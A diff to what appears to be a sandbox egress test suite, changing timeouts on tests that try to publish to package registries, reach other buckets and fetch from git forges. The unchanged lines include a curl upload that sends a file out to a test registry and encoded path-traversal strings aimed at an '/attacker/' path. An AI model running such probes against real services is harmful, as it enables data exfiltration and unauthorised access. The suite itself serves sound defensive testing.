@@ -9,7 +9,7 @@ def body(host, path, method, content="data-{m}", sni=None):
     return raw(host, f"{method} {path} HTTP/1.1\r\nHost: {host}\r\nContent-Length: {len(content.replace('{m}', 'm' + '0' * 12))}\r\n\r\n{content}", sni=sni)
 
 
-@attack("D01", conditions=("partial",), quick=True)
+@attack("D01", conditions=("partial",), seconds=150)
 def registries(t):
     """Publishing to a package index that may only be read, and carrying data in what is asked for"""
     world, box = t.world, t.world.sandbox()
@@ -26,12 +26,12 @@ def registries(t):
                                         "timeout 50 npm publish --registry https://npm.test/pkg/npm", 60), lambda seen: [entry for entry in seen.arrived if entry.get("method") not in ("GET", "HEAD", None)])
     gate.attempt("a form upload as twine does it", command("echo data > /tmp/{m}; curl -sS -m 15 -F :action=file_upload -F name={m} -F content=@/tmp/{m} https://pip.test/legacy/"), lambda seen: [entry for entry in seen.arrived if entry.get("method") == "POST"])
     marker = gate.control("what a path carries out is not stopped", get("pip.test", "/pkg/simple/{m}/"))
-    gate.go(limit=150, threads=4)
+    gate.go(threads=4)
     with world.attacker.events(f"{box.path}/egress/log") as stream:
         t.attempt("what a path carried out is not in the log either", not any(marker in event.data.get("path", "") for event in stream))
 
 
-@attack("D04", conditions=("partial",), quick=True)
+@attack("D04", conditions=("partial",), seconds=150)
 def buckets(t):
     """Another one's bucket at the same store, by name, by Host, by signed URL"""
     gate = Gate(t, t.world.sandbox())
@@ -97,4 +97,4 @@ def forges(t):
         gate.attempt(f"git fetch of {repository}", command(f"cd /tmp/tiny && timeout 20 git ls-remote https://git.test/{repository}", 40))
     for path in ("/attacker/{m}/info/refs?service=git-receive-pack", "/pkg/tiny.git/..%2f..%2fattacker/{m}", "//attacker/{m}"):
         gate.attempt(f"the path {path}", get("git.test", path, sni="git.test"))
-    gate.go(limit=120)
+    gate.go()
